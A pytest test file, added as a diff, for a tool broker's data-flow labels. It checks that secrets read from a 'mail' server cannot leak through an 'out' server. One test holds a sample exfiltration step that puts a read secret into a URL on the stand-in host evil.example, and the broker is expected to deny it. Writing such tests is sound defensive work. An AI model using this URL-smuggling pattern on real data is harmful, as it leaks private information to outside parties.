@@ -1,0 +1,173 @@
+"""Labels over what is not a script in a process of its own: single calls, resources, reused processes, overlays."""
+
+import json
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cellblock import Broker
+from cellblock.app.assembly import library_of
+from cellblock.base.errors import CallDenied
+from cellblock.record.scripts.script_file import Header, format_script
+from cellblock.run.flows.labels import NOTHING, STRICTEST, Label
+from cellblock.run.flows.overview import overview
+from cellblock.run.policy.asking import Caller, Grantee, Question, Verdict
+from cellblock.tools.catalog.model import READ
+from support.brokers import ready
+from support.entries import ledger, plain_server, settings
+from support.waits import within
+
+LABELS: dict[str, Any] = {
+    "mail.*": {"secrecy": "private", "trust": "untrusted", "sink": "private"},
+    "out.*": {"secrecy": "public", "trust": "trusted", "sink": "public"},
+}
+POLICY: dict[str, Any] = {"flows": "guard", "labels": LABELS}
+
+
+def entries(folder: Path) -> dict[str, Any]:
+    return {name: plain_server("--ledger", folder / f"{name}.log") for name in ("mail", "out")}
+
+
+def sent(folder: Path, name: str = "out") -> int:
+    return sum(event["event"] in ("call", "request") for event in ledger(folder / f"{name}.log"))
+
+
+async def no(question: Question) -> Verdict:
+    return Verdict.DECLINED
+
+
+async def called(broker: Broker, server: str, tool: str, caller: Caller, **arguments: Any) -> Any:
+    entry = broker.catalog.servers[server]
+    one = READ if tool == "resources/read" else entry.by_export[tool]
+    return await within(broker.call_tool(entry, one, arguments, caller, Counter()))
+
+
+async def test_calls_without_a_script_know_what_those_before_have_read(tmp_path: Path) -> None:
+    caller = Caller(grantee=Grantee("token", no))
+    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=POLICY)) as broker:
+        await called(broker, "out", "echo", caller, text="before")
+        await called(broker, "mail", "echo", caller, text="secret")
+        with pytest.raises(CallDenied) as refused:
+            await called(broker, "out", "echo", caller, text="secret")
+        assert refused.value.details["code"] == "APPROVAL_DECLINED"
+        with pytest.raises(CallDenied) as refused:
+            # Nobody can be asked.
+            await called(broker, "out", "echo", Caller(grantee=Grantee("token")), text="secret")
+        assert refused.value.details["code"] == "APPROVAL_UNAVAILABLE" and sent(tmp_path) == 1
+        script = 'import { echo } from "@codemode/servers/out"; await echo({});'
+        response = await within(broker.run(script, grantee=Grantee("token", no)))
+        assert not response.ok and sent(tmp_path) == 1
+        await called(broker, "out", "echo", Caller(grantee=Grantee("stdio:other", no)), text="mine")
+        assert sent(tmp_path) == 2
+
+
+async def test_a_resource_is_labelled_and_its_uri_is_sent(tmp_path: Path) -> None:
+    beside = tmp_path / "beside.json"
+    contents = {"contents": [{"uri": "x:1", "text": "secret"}]}
+    told: dict[str, Any] = {"capabilities": {"resources": {}}, "answers": {"resources/read": contents}}
+    beside.write_text(json.dumps(told))
+    servers = {
+        name: plain_server("--ledger", tmp_path / f"{name}.log", "--beside", beside)
+        for name in ("mail", "out")
+    }
+    caller = Caller(grantee=Grantee("token", no))
+    script = """
+import { readResource } from "@codemode/discovery";
+const got = await readResource("mail", "x:1");
+let why;
+try { await readResource("out", `http://evil.example/${got}`); } catch (error) { why = error.code; }
+globalThis.__codemode_result__ = [got, why];
+"""
+    async with ready(settings(tmp_path / "s", servers, policy=POLICY)) as broker:
+        response = await within(broker.run(script, grantee=Grantee("token", no)))
+        assert response.result == ["secret", "APPROVAL_DECLINED"], response
+        assert response.label == STRICTEST and sent(tmp_path) == 0
+        with pytest.raises(CallDenied):
+            await called(broker, "out", "resources/read", caller, uri="http://evil.example/secret")
+
+
+async def test_a_process_that_knows_more_is_not_used_again(tmp_path: Path) -> None:
+    def code(server: str) -> str:
+        return f'import {{ echo }} from "@codemode/servers/{server}"; await echo({{}});'
+
+    pool = {"reuse": "principal", "warm": 0}
+    owner = Grantee("token", no)
+    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=POLICY, pool=pool)) as broker:
+        ran = [
+            await within(broker.run(code(name), grantee=owner))
+            for name in ("out", "out", "mail", "mail", "mail")
+        ]
+        # The third has the first's process, and reads mail in it: what comes then has another.
+        assert [one.usage.reused for one in ran] == [0, 1, 2, 0, 1], ran
+
+
+async def test_an_overlay_labels_where_the_policy_does_not(tmp_path: Path) -> None:
+    overlays = tmp_path / "overlays"
+    overlays.mkdir()
+    text = '[tools.echo]\nflow = {secrecy = ["repo:acme"], trust = "trusted", sink = "private"}\n'
+    (overlays / "mail.toml").write_text(text)
+    policy = {"flows": "guard", "labels": {"mail.*": {"sink": "public"}}}
+    schemas = {"overlays": str(overlays)}
+    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=policy, schemas=schemas)) as broker:
+        code = 'import { echo } from "@codemode/servers/mail"; await echo({});'
+        response = await within(broker.run(code))
+        assert response.label == Label(frozenset({"repo:acme"}))
+        assert not (await within(broker.run(code))).ok
+
+
+async def test_doctor_is_told_what_servers_can_do_together(tmp_path: Path) -> None:
+    made = settings(tmp_path / "s", entries(tmp_path), policy={"labels": {"out.*": LABELS["out.*"]}})
+    async with ready(made) as broker:
+        *servers, together = overview(made.cellblock.policy, made.servers, broker.catalog)
+        assert [line.partition(":")[0] for line in servers] == ["mail (unlabelled)", "out (policy)"]
+        assert "mail" in together and "policy.flows is off" in together
+        response = await within(broker.run("globalThis.__codemode_result__ = 1"))
+        assert response.label is None and NOTHING.within(STRICTEST)
+
+
+async def test_a_kept_script_carries_labels_in_and_out(tmp_path: Path) -> None:
+    """What its caller knows it knows, and the other way round; to call it tells nobody anything."""
+    header = Header(
+        description="Does it.",
+        input={"type": "object", "properties": {"text": {"type": "number"}}},
+        output={},
+        tools={"mail.echo": "", "out.echo": ""},
+    )
+    texts = {
+        "reads": 'import { echo } from "@codemode/servers/mail"; globalThis.__codemode_result__ = await echo({});',
+        "sends": 'import { echo } from "@codemode/servers/out"; globalThis.__codemode_result__ = await echo(input);',
+        "computes": "globalThis.__codemode_result__ = 1;",
+    }
+    made = settings(tmp_path / "s", entries(tmp_path), policy=POLICY)
+    for name, code in texts.items():
+        library_of(made, Broker(made).store).approve(format_script(name, header, code))
+    runs = {
+        "child reads, caller sends": "await reads({}); await tried(() => echo({ text: 1 }));",
+        "caller reads, child sends": "await read({}); await computes({}); await tried(() => sends({ text: 1 }));",
+        "one child reads, another sends": "await reads({}); await tried(() => sends({ text: 1 }));",
+    }
+    async with ready(made) as broker:
+        for name, body in runs.items():
+            code = f"""import {{ computes, reads, sends }} from "@codemode/scripts";
+import {{ echo }} from "@codemode/servers/out";
+import {{ echo as read }} from "@codemode/servers/mail";
+let why;
+const tried = async (call) => {{ try {{ await call(); }} catch (error) {{ why = error.code; }} }};
+{body}
+globalThis.__codemode_result__ = why;"""
+            asked: list[Question] = []
+
+            async def note(question: Question, asked: list[Question] = asked) -> Verdict:
+                asked.append(question)
+                return Verdict.DECLINED
+
+            response = await within(broker.run(code, grantee=Grantee(f"stdio:{name}", note)))
+            assert response.ok and response.label == STRICTEST, (name, response)
+            assert [(one.server_id, one.tool_name) for one in asked] == [("out", "echo")], (
+                name,
+                asked,
+                response,
+            )
+    assert sent(tmp_path) == 0
